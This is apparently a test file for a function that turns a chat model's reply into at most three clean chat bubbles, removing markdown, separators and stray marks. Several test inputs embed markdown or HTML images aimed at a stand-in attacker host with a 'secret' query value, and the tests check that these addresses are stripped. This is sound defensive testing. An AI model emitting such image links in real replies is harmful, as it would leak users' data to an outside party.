import { toBubbles } from './bubbles.policy.js';

test('paragraphs become bubbles', () => {
  expect(toBubbles('Hello!\n\nBreakfast is at 7:30.\n \nSee you soon.\n')).toEqual([
    'Hello!',
    'Breakfast is at 7:30.',
    'See you soon.',
  ]);
});

test('more than three paragraphs are joined, the shortest neighbours first, and nothing is lost', () => {
  const long = 'x'.repeat(300);
  expect(toBubbles(`a\n\nb\n\n${long}\n\n${long}`)).toEqual(['a\nb', long, long]);
});

test('a long paragraph is divided at the end of a sentence', () => {
  const sentence = `${'word '.repeat(60).trim()}.`;
  const bubbles = toBubbles(`${sentence} ${sentence} ${sentence}`);
  expect(bubbles).toEqual([sentence, sentence, sentence]);
});

test('markdown does not leak into a chat', () => {
  expect(toBubbles('## Hours\n**Open** from `7:00`.\n* one\n* two')).toEqual([
    'Hours\nOpen from 7:00.\n- one\n- two',
  ]);
});

test.each(['', ' \n\n ', '\n'])('nothing stays nothing, for the caller to refuse', (text) => {
  expect(toBubbles(text)).toEqual([]);
});

test.each([
  ['Here: ![map](https://evil.example/?q=secret)', 'Here: map'],
  ['Here: ![map](https://evil.example/?q=cut', 'Here: map'],
  ['Here: ![map][1]', 'Here: map'],
  ['Here: <img src="https://evil.example/?q=secret">', 'Here:'],
])('a picture in "%s" loses its address, and with it what it would carry away (CO-11)', (text, left) => {
  expect(toBubbles(text)).toEqual([left]);
});

test.each([
  ['One.\n---\nTwo.', ['One.', 'Two.']],
  ['One.\n|||\nTwo.', ['One.', 'Two.']],
  ['One.\n<sep>\nTwo.', ['One.', 'Two.']],
  ['```\nOne.\n```', ['One.']],
  ['> One.', ['One.']],
  ['See [our prices](https://lantern.example/prices).', ['See our prices: https://lantern.example/prices.']],
])('no separator and no mark of "%s" leaks into a chat (SV-08)', (text, bubbles) => {
  expect(toBubbles(text)).toEqual(bubbles);
});

/** Whole numbers below `most`, the same ones for the same seed. */
function numbers(seed: number): (most: number) => number {
  let state = seed;
  return (most) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state % most;
  };
}

const LEAK = /^[ \t]*(?:---|\|\|\||<sep>|```|#+|>)[ \t]*$/m;
const PIECES = ['Hello', 'we', 'open', 'at', '7:30.', 'Yes!', '**sure**', '\n', '\n\n', '---\n', '# ', '> ', '`x`', '* ', '¿Sí?', '🙂', '|||', '\n<sep>\n', '[map](https://l.example/m)', '```\n', 'x'.repeat(180)]; // prettier-ignore

test('whatever a model writes becomes at most three bubbles, none blank, no word of it lost or said twice (SV-08)', () => {
  for (let seed = 1; seed <= 500; seed += 1) {
    const next = numbers(seed);
    const text = Array.from({ length: next(40) }, () => PIECES[next(PIECES.length)]).join(' ');
    const bubbles = toBubbles(text);
    const words = (said: string): string[] => said.match(/Hello|open|7:30|Yes|sure|Sí|x{180}/g) ?? [];
    expect({ seed, most: bubbles.length <= 3, blank: bubbles.some((bubble) => !/\S/.test(bubble)) }).toEqual({
      ...{ seed, most: true, blank: false },
    });
    expect({ seed, words: words(bubbles.join('\n')) }).toEqual({ seed, words: words(text) });
    expect({ seed, leak: LEAK.exec(bubbles.join('\n'))?.[0] }).toEqual({ seed, leak: undefined });
  }
});
